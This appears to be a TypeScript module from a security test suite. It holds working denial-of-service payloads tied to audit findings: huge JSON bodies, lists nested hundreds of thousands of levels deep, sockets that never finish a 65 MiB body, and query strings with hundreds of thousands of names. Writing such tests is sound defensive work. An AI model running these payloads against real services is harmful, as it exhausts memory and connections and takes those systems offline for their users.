/** JSON and query strings that cost more to read than to send. */
import { setTimeout as sleep } from "node:timers/promises";
import { type Attack, repeated } from "./attack.ts";

const mebibyte = 1_048_576;
const nested = (depth: number): string => "[".repeat(depth) + "]".repeat(depth);
const nestedObjects = (depth: number): string => `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;

/** A list of the same item, as long as so many mebibytes hold. */
const listBody = (item: string, mebibytes: number): Buffer => {
  const count = Math.floor((mebibytes * mebibyte) / (item.length + 1));
  return Buffer.concat([
    Buffer.from('{"files":['),
    Buffer.alloc(count * (item.length + 1), `${item},`),
    Buffer.from(`${item}]}`),
  ]);
};

const nestedBody = (mebibytes: number): Buffer => {
  const depth = Math.floor((mebibytes * mebibyte) / 2) - 20;
  return Buffer.concat([
    Buffer.from('{"file":'),
    Buffer.alloc(depth, "["),
    Buffer.alloc(depth, "]"),
    Buffer.from("}"),
  ]);
};

/** Where unknown or misplaced values are put: at the top, in a step, in a rule, in a file. */
const deepPlaces: Readonly<Record<string, (value: string) => string>> = {
  "/strings/transform": (value) => `{"text":"a","operations":[{"operation":"trim","x":${value}}]}`,
  "/useragent/parse": (value) => `{"ua":"a","headers":{"x":${value}}}`,
  "/password/policy": (value) => `{"password":"a","policy":{"x":${value}}}`,
  "/pii/detect": (value) => `{"text":"a","customPatterns":[{"kind":"a","pattern":"a","x":${value}}]}`,
  "/pdf/info": (value) => `{"file":{"base64":"${"A".repeat(100_000)}","x":${value}}}`,
  "/pdf/merge": (value) => `{"files":[{"base64":"aaaa","x":${value}},{"base64":"aaaa"}]}`,
  "/anonymizer/k-anonymity": (value) => `{"records":[{"a":1,"x":${value}}],"quasiIdentifiers":["a"]}`,
  "/image/blur": (value) => `{"base64":"aaaa","x":${value}}`,
  "/naics/match": (value) => `{"text":"we fix cars","x":${value}}`,
  "/proxy": (value) => `{"url":"http://127.0.0.1:1/","headers":{"a":${value}}}`,
  "/crypto/hash": (value) => `{"text":"a","x":${value}}`,
};

const names = (count: number): string[] => repeated(count, (at) => at.toString(36));

export const jsonAttacks: readonly Attack[] = [
  {
    name: "40 MiB of empty objects, the sender leaves",
    finding: "C2",
    async run(target) {
      await target.post("/pdf/merge", listBody("{}", 40), { leaveAfterMs: 1_500 });
      await sleep(12_000);
    },
  },
  {
    name: "26 MiB of nested lists, the sender leaves",
    finding: "C2",
    async run(target) {
      await target.post("/pdf/info", nestedBody(26), { leaveAfterMs: 500 });
      await sleep(12_000);
    },
  },
  {
    name: "64 MiB of names without values, and of white space before one",
    finding: "C2",
    async run(target) {
      const names = Buffer.alloc(64 * mebibyte, '"base64"');
      const spaces = Buffer.concat([Buffer.from('{"file":{"base64":'), Buffer.alloc(63 * mebibyte, " ")]);
      for (const body of [names, spaces]) await target.post("/pdf/info", body, { timeoutMs: 9_000 });
    },
  },
  {
    name: "six bodies of 60 MiB in a row",
    finding: "C2",
    async run(target) {
      for (const item of ["{}", "[]", "0", '"a"', "1.5", '{"a":0}']) {
        await target.post("/pdf/merge", listBody(item, 60), { timeoutMs: 9_000 });
      }
    },
  },
  {
    name: "12 bodies of 65 MiB that never end",
    finding: "M3",
    async run(target) {
      const head = `POST /pdf/merge HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: ${65 * mebibyte}\r\n\r\n`;
      const chunk = Buffer.alloc(mebibyte, "a");
      const sockets = repeated(12, () => target.socket());
      const senders = sockets.map(async (socket) => {
        socket.on("data", (answer) => target.count(answer.toString("latin1", 9, 12)));
        socket.write(head);
        for (let sent = 0; sent < 60 && !socket.destroyed; sent += 1) {
          const isDrained = await new Promise((resolve) => {
            socket.write(chunk, (error) => resolve(error === undefined || error === null));
          });
          if (isDrained === false) return;
        }
      });
      await Promise.race([Promise.all(senders), sleep(14_000)]);
      await sleep(1_000);
      for (const socket of sockets) socket.destroy();
    },
  },
  {
    name: "unknown fields nested up to 400,000 deep",
    finding: "L4",
    async run(target) {
      for (const depth of [1_000, 5_000, 20_000, 400_000]) {
        for (const [path, place] of Object.entries(deepPlaces)) {
          await target.post(path, place(nested(depth)));
          await target.post(path, place(nestedObjects(depth / 5)));
        }
      }
    },
  },
  {
    name: "a query of 200,000 names, and of one name 400,000 times",
    finding: "M7",
    async run(target) {
      await target.get(`/crypto/hash?text=a&${names(150_000).join("&")}`);
      await target.get(`/crypto/hash?text=a&${"b&".repeat(400_000)}`);
    },
  },
  {
    name: "bodies of 100,000 names, of escapes, of 500,000 levels",
    finding: "M7",
    async run(target) {
      const keys = names(80_000).map((name) => `"${name}":0`);
      await target.post("/crypto/hash", `{"text":"a",${keys.join(",")}}`);
      await target.post("/crypto/hash", `{"text":"a","x":${nested(500_000)}}`);
      await target.post(
        "/proxy",
        `{"url":"http://127.0.0.1/","x":["\\ud800",${'"\\ud800",'.repeat(400_000)}1]}`,
      );
      await target.post("/strings/count", `{"text":"${"\\u0041".repeat(170_000)}"}`);
      await target.post("/text/analyze", `{"text":"${"\\ud83d\\ude00".repeat(80_000)}"}`);
    },
  },
];
